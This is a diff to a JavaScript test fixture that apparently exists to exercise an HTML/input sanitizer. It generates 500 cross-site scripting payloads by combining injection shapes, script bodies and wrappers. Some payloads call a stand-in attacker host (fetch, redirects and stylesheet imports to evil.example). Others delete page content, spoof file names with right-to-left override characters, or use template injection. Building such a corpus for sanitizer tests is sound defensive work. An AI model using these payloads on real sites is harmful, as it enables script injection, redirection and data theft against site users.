@@ -40,3 +40,16 @@ export const hostile = [
     '<img src=x onerror=alert(1)>', '"><script>alert(2)</script>', '&lt;svg onload=alert(3)&gt;', "javascript:alert('4')",
     '\u202Egnp.exe\u202C', '<style>*{display:none}</style>', '{{constructor.constructor("alert(5)")()}}', '</title><script>alert(6)</script>',
 ];
+
+// Every way in that the stand-in's people know, 500 of them: element, attribute, url,
+// style, template and entity, each wrapped in another.
+const marks = ['alert(1)', 'prompt(1)', 'location=\'//evil.example/\'', 'fetch(\'https://evil.example/\')', 'document.body.remove()'];
+const shapes = [
+    (js) => `<img src=x onerror=${js}>`, (js) => `<svg/onload=${js}>`, (js) => `<script>${js}</script>`, (js) => `<iframe srcdoc="<script>${js}</script>">`, (js) => `<a href="javascript:${js}">a</a>`,
+    (js) => `javascript:${js}`, (js) => `" onmouseover="${js}`, (js) => `' autofocus onfocus='${js}`, (js) => `<style>@import "https://evil.example/${js}";</style>`, (js) => `<base href="https://evil.example/">${js}`,
+    (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`, (js) => `<object data="data:text/html,<script>${js}</script>">`, (js) => `{{constructor.constructor("${js}")()}}`, (js) => `\${${js}}`, (js) => `&lt;img src=x onerror=${js}&gt;`,
+    (js) => `<details open ontoggle=${js}>`, (js) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`, (js) => `<link rel=stylesheet href=https://evil.example/${js}>`, (js) => `\u202E${js}\u202C<b>`, (js) => `data:text/html;base64,${js}`,
+];
+const wraps = [(s) => s, (s) => `">${s}`, (s) => `</title></textarea></style>${s}`, (s) => `\u2028${s}\u0000`, (s) => s.repeat(3)];
+export const payloads = shapes.flatMap((shape) => marks.flatMap((mark) => wraps.map((wrap) => wrap(shape(mark)))));
+export const tags = ['higgs', 'cern', 'science', 'physics', 'boson', 'ichep2012', 'fünfsigma', '物理', 'godparticle', 'comicsans'];
